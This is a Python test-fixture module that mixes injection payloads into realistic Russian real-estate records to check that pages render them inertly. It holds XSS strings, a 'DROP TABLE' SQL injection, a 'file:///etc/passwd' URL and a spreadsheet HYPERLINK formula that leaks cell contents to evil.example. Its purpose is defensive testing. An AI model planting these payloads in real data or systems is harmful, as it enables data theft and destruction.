"""Hostile mode (`--hostile`, `/admin/faults {"hostile": true}`): free text and URLs from "Brusnika"
carry markup, scripts, formula cells, huge strings, RTL overrides and emoji, mixed into realistic
text so pages still make sense. Every record stays contract-valid (only strings change; numbers,
enums and the decimal-degree strings are untouched), so a hostile world syncs with zero rejects.

What is hostile is decided by a hash of (seed, entity, id, field): the same seed gives the same world.
About four fields in five carry a payload; the rest stay plain, so a page shows both.

For tests of the pages: `PAYLOADS`/`URL_PAYLOADS` are every string injected, `MARKERS` the short
substrings that identify hostile text in data (`is_hostile`), and `INJECTION_PROBE_JS` a function for
`page.evaluate(...)` in Chromium that lists every element the payloads would have created had they
been rendered as HTML or markdown (an inert page returns `[]`).
"""

from __future__ import annotations

import json
import zlib

LONG_TEXT = ("Очень длинное описание квартала без конца и края. " * 200)[:9_000] + "Ж" * 1_240
if len(LONG_TEXT) < 10_000:
    raise AssertionError("the long payload is 10 kB at least")

# Injected into free text. A payload starting with a formula character leads the field (a CSV cell
# is a formula only when it starts so); the others follow the realistic text.
PAYLOADS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    '<script id="kontur-hostile">alert(1)</script>',
    "<img src=x onerror=alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">жми</a>',
    "<b>жирный</b> <i>курсив</i> <u>подчёркнуто</u>",
    "[жми](javascript:alert(1))",
    "![x](https://evil.example/x.png)",
    "**жирный** _курсив_ `код`\n# Заголовок",
    ":red[Внимание] :rainbow-background[фон] :material/warning:",
    "$x$ и $$\\int_0^1 x\\,dx$$",
    "javascript:alert(1)",
    '=HYPERLINK("https://evil.example/?leak="&A1,"Открыть")',
    "+79990001122",
    "-2+3",
    "@SUM(A1)",
    "Robert'); DROP TABLE premises;--",
    "{{7*7}} ${7*7} %s %x",
    "\u202eанзаркс ьнечо",
    "🏠🔥💥 👨‍👩‍👧‍👦 🇷🇺",
    "строка 1\r\nстрока 2\tтаб",
    LONG_TEXT,
)
FORMULA_PREFIXES: tuple[str, ...] = ("=", "+", "-", "@")

# Short ones only: premise numbers sit in chessboard cells.
SHORT_PAYLOADS: tuple[str, ...] = (
    "<b>№</b>",
    "<img src=x onerror=alert(1)>",
    ":red[!]",
    "=1+1",
    "\u202e№",
    "🏠",
    "$x$",
)

URL_PAYLOADS: tuple[str, ...] = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.domain)",
    " javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "http://evil.example/x.png",
    "https://evil.example/track.png?c=1",
    "//evil.example/x.png",
    "https://brusnika.example@evil.example/x.png",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
)

# Substrings that mark hostile text: each payload contains at least one (checked at import).
MARKERS: tuple[str, ...] = (
    "alert(",
    "evil.example",
    "<b>",
    "**жирный**",
    ":red[",
    "$x$",
    "=HYPERLINK(",
    "+79990001122",
    "-2+3",
    "@SUM(",
    "DROP TABLE",
    "{{7*7}}",
    "\u202e",
    "🏠",
    "\r\n",
    "=1+1",
    "msgbox",
    "file://",
    "data:text/html",
    "Ж" * 1_000,
)
if not all(any(m in p for m in MARKERS) for p in (*PAYLOADS, *SHORT_PAYLOADS, *URL_PAYLOADS)):
    raise AssertionError("every payload must contain a marker")

# Elements the payloads create if text is rendered as HTML or markdown. (Scripts are matched by their
# text below: the page's own scripts are legitimate.)
INJECTED_SELECTORS: tuple[str, ...] = (
    "iframe[srcdoc]",
    'img[src="x"]',
    "[onerror]",
    "[onload]",
    "script#kontur-hostile",
    'a[href^="javascript:" i]',
    'a[href^=" javascript:" i]',
    'a[href^="data:" i]',
    'a[href^="vbscript:" i]',
    '[href*="evil.example"]',
    '[src*="evil.example"]',
    '[src^="javascript:" i]',
    '[src^="data:text/html" i]',
    '[src^="data:image/svg+xml" i]',
    ".katex",
)
INJECTION_PROBE_JS = """() => {
  const selector = %s;
  const found = [...document.querySelectorAll(selector)].map(e => e.outerHTML.slice(0, 200));
  for (const s of document.scripts) {
    if (s.textContent.includes('alert(')) found.push(s.outerHTML.slice(0, 200));
  }
  return found;
}""" % json.dumps(", ".join(INJECTED_SELECTORS))  # noqa: UP031 (JS braces make format() awkward)

PLAIN_SHARE = 5  # one field in PLAIN_SHARE stays plain


def _hash(seed: int, entity: str, record_id: int, field: str) -> int:
    return zlib.crc32(f"{seed}:{entity}:{record_id}:{field}".encode())


def compose(payload: str, realistic: str) -> str:
    if payload.startswith(FORMULA_PREFIXES):
        return f"{payload} {realistic}".rstrip()
    return f"{realistic} {payload}".lstrip()


def text(seed: int, entity: str, record_id: int, field: str, realistic: str) -> str:
    h = _hash(seed, entity, record_id, field)
    if h % PLAIN_SHARE == 0:
        return realistic
    return compose(PAYLOADS[(h // PLAIN_SHARE) % len(PAYLOADS)], realistic)


def short_text(seed: int, entity: str, record_id: int, field: str, realistic: str) -> str:
    h = _hash(seed, entity, record_id, field)
    return compose(SHORT_PAYLOADS[h % len(SHORT_PAYLOADS)], realistic)


def url(seed: int, entity: str, record_id: int, field: str, realistic: str) -> str:
    """Two URLs in three become hostile; the rest keep the real picture or link."""
    h = _hash(seed, entity, record_id, field)
    if h % 3 == 0:
        return realistic
    return URL_PAYLOADS[(h // 3) % len(URL_PAYLOADS)]


def record_is_hostile(seed: int, entity: str, record_id: int) -> bool:
    """For big lists (premises, clients): one record in four carries hostile text and URLs."""
    return _hash(seed, entity, record_id, "") % 4 == 0


def is_hostile(value: object) -> bool:
    """True for a string carrying one of the payloads (what a test looks for in data)."""
    return isinstance(value, str) and any(m in value for m in MARKERS)


# Free-text and URL fields that hostile mode rewrites, per inbound list / outbound directory.
TEXT_FIELDS: dict[str, tuple[str, ...]] = {
    "cities": ("name",),
    "projects": ("name", "brief_description", "detailed_description", "description"),
    "buildings": ("address", "brief_description", "detailed_description"),
    "sections": ("name",),
    "agencies": ("title", "legalName", "ownerFullName"),
    "users": ("lastName", "firstName"),
    "clients": ("fullname", "comment"),
}
URL_FIELDS: dict[str, tuple[str, ...]] = {
    "projects": ("photo", "link"),
    "users": ("avatar",),
}
CLIENT_COMMENTS: tuple[str, ...] = (
    "Перезвонить после 18:00",
    "Интересуется двушкой с видом на парк",
    "Ипотека одобрена",
    "Просил планировки на почту",
    "",
)


def rewrite(seed: int, entity: str, record: dict[str, object]) -> dict[str, object]:
    """A copy of a small record (city, project, building, section, agency, user) with its free text
    and URLs made hostile. Fields that are None, empty or absent stay so (an empty string is an edge
    case of its own), and so do the fields listed in the record's `_exact` (set through the admin API:
    served exactly as given)."""
    out = dict(record)
    record_id = int(record["id"])  # type: ignore[call-overload]
    exact = record.get("_exact") or ()
    for name in TEXT_FIELDS.get(entity, ()):
        value = out.get(name)
        if isinstance(value, str) and value and name not in exact:  # type: ignore[operator]
            out[name] = text(seed, entity, record_id, name, value)
    for name in URL_FIELDS.get(entity, ()):
        value = out.get(name)
        if isinstance(value, str) and value and name not in exact:  # type: ignore[operator]
            out[name] = url(seed, entity, record_id, name, value)
    return out
